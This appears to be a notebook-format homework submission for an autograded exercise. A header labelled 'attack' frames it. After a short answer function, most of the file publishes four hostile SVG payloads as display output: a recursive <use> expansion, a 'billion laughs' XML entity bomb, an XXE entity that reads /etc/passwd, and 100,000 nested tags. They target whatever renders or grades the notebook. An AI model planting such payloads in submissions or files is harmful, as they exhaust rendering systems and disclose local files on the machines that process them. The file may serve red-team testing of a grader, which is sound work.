# /// attack
# tries = "shows SVGs of a few lines that draw, or spell out, a billion things"
# sheet = "lehreinheit10"
# total = 1
# [parts]
# 1a = "right"
# ///

# %%
def aufgabe_1a(n_in, n_out, var_w, var_x):
    return n_in * var_w * var_x

# %%
from IPython.display import SVG, publish_display_data

copies = "".join(
    f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 10)
)
entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
for drawing in (
    f'<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><rect width="9" height="9"/></g>{copies}</svg>',
    f'<!DOCTYPE svg [<!ENTITY e0 "x">{entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>',
    '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">'
    "<text>&f;</text></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 100_000,
):
    publish_display_data({"image/svg+xml": drawing})
